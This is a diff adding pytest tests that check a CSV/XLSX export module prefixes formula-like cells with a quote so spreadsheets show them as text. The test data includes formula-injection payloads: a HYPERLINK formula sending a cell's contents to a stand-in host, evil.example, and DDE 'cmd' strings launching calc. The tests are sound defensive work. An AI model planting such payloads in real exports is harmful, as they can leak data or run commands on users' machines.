@@ -52,9 +52,35 @@ def test_csv_reads_back_with_iso_dates_when_written() -> None:
         ["Тема", "Count", "Sum", "At", "Day", "OK", "Id", "None"],
         ["Жалоба <b>&", "3", "10.50", "2026-01-05T09:30:00+00:00", "2026-01-02",
          "true", str(ID), ""],
-        ["=1+2", "0", "0", "2026-01-05T09:30:00+00:00", "2026-01-03", "false",
+        ["'=1+2", "0", "0", "2026-01-05T09:30:00+00:00", "2026-01-03", "false",
          str(ID), ""],
     ]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1,"open")',
+         '\'=HYPERLINK("http://evil.example/?"&A1,"open")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("+7 (495) 123-45-67", "+7 (495) 123-45-67"),
+        ("-12.50", "-12.50"),
+        ("a=b", "a=b"),
+    ],
+)  # fmt: skip
+def test_csv_text_cell_is_guarded_when_a_spreadsheet_would_run_it(
+    value: str, shown: str
+) -> None:
+    out = io.BytesIO()
+    writer = open_writer(ExportFormat.CSV, out, (Column(name="v", label="v"),))
+    writer.write([(value,), (-5,), (Decimal("-1.5"),)])
+    writer.close()
+    rows = list(csv.reader(io.StringIO(out.getvalue().decode(), newline="")))
+    assert rows[1:] == [[shown], ["-5"], ["-1.5"]]
 
 
 def test_csv_starts_with_a_bom_when_asked_for_excel() -> None:
@@ -75,6 +101,15 @@ def test_xlsx_reads_back_typed_cells_and_keeps_formulas_as_text_when_written() -
     assert rows[1][:7] == ("Жалоба <b>&", 3, 10.5, utc_wall_clock, midnight, True,
                            str(ID))  # fmt: skip
     assert rows[2][0] == "=1+2"
+
+
+def test_xlsx_formula_like_text_keeps_its_quote_prefix_when_written() -> None:
+    book = load_workbook(io.BytesIO(export(ExportFormat.XLSX)))
+    sheet = book["Appeals by topic"]
+    formula, plain = sheet["A3"], sheet["A2"]
+    assert (formula.value, formula.data_type) == ("=1+2", "s")
+    assert formula.quotePrefix
+    assert not plain.quotePrefix
 
 
 class _Cells(HTMLParser):
